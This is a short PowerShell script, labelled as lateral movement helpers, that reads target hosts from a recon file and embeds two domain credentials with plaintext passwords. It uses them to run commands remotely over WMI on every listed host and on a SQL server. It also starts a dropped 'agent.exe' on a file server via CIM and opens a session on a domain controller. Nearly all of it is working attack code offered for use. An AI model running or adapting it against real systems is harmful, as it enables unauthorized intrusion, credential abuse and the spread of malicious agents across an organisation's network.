# lateral movement helpers; targets come from the recon output
$targets = Get-Content -Path "$env:TEMP\hosts.txt"

$c1 = [pscredential]::new('CONTOSO\helpdesk', ('Summer2024!' | ConvertTo-SecureString -AsPlainText -Force))
$c2 = New-Object Management.Automation.PSCredential -ArgumentList 'CONTOSO\sqlsvc', (ConvertTo-SecureString -String 'Sq1Svc#2023' -AsPlainText -Force)

function Invoke-RemotePayload {
    param(
        [string]$Target,
        [pscredential]$Credential,
        [string]$Command
    )

    Invoke-WmiMethod -ComputerName $Target -Credential $Credential -Class Win32_Process -Name Create -ArgumentList $Command
}

foreach ($t in $targets) {
    Invoke-RemotePayload -Target $t -Credential $c1 -Command 'cmd.exe /c whoami > C:\Windows\Temp\w.txt'
}

Invoke-Command -ComputerName 'SQL02' -Credential $c2 -ScriptBlock { Get-Process -Name sqlservr }
Invoke-CimMethod -ComputerName 'FS01' -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'C:\Windows\Temp\agent.exe' }
Enter-PSSession -ComputerName DC01 -Credential $c2
